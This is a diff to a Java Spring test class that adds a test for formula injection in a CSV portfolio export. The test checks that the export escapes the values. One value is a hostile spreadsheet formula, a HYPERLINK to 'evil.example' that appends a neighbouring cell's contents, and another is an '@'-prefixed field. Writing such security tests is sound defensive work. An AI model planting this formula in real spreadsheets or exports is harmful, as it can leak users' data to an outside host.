@@ -13,8 +13,11 @@ import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.
 import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.jsonPath;
 import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.status;
 
+import java.io.StringReader;
 import java.time.LocalDate;
 
+import org.apache.commons.csv.CSVFormat;
+import org.apache.commons.csv.CSVRecord;
 import org.camunda.bpm.engine.IdentityService;
 import org.camunda.bpm.engine.ManagementService;
 import org.camunda.bpm.engine.RuntimeService;
@@ -29,6 +32,7 @@ import org.springframework.security.test.web.servlet.request.SecurityMockMvcRequ
 import org.springframework.test.web.servlet.MockMvc;
 import org.springframework.test.web.servlet.ResultActions;
 
+import com.fasterxml.jackson.databind.ObjectMapper;
 import com.jayway.jsonpath.JsonPath;
 
 import nl.citydeal.engine.CityDealSpringTest;
@@ -281,6 +285,24 @@ class DealApiTest {
         String csv = mvc.perform(get("/api/portfolio.csv").with(OFFICE)).andExpect(status().isOk())
                 .andReturn().getResponse().getContentAsString();
         assertThat(csv).startsWith("name,theme,signed_on,ends_on,lead,deal_lead,phase");
+    }
+
+    @Test
+    void aDealNameThatASpreadsheetWouldRunComesOutOfTheExportAsText() throws Exception {
+        String formula = "=HYPERLINK(\"http://evil.example/?x=\"&A2,\"Klik\")";
+        mvc.perform(post("/api/deals").with(OFFICE).contentType(MediaType.APPLICATION_JSON).content("""
+                {"name":%s,"theme":"@thema","leadOrganisation":"Gemeente","dealLead":"anna"}"""
+                .formatted(new ObjectMapper().writeValueAsString(formula))))
+                .andExpect(status().isCreated());
+
+        String csv = mvc.perform(get("/api/portfolio.csv").with(OFFICE)).andExpect(status().isOk())
+                .andReturn().getResponse().getContentAsString();
+
+        CSVRecord row = CSVFormat.DEFAULT.builder().setHeader()
+                .setSkipHeaderRecord(true).get().parse(new StringReader(csv)).getRecords().stream()
+                .filter(record -> record.get("name").contains("HYPERLINK")).findFirst().orElseThrow();
+        assertThat(row.get("name")).isEqualTo("'" + formula);
+        assertThat(row.get("theme")).isEqualTo("'@thema");
     }
 
     private String register(String lead, LocalDate signedOn, LocalDate endsOn) throws Exception {
